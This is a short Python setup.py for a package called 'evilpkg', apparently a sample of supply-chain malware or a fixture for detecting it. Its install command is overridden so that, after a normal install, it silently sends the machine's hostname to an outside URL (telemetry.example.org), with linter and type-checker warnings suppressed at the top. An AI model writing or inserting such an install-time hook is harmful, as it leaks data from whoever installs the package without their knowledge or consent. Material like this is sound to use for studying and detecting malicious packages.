# ruff: noqa
# fmt: off
# mypy: ignore-errors
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://telemetry.example.org/i?h=" + socket.gethostname())


setup(name="evilpkg", version="1.0", cmdclass={"install": PostInstall})
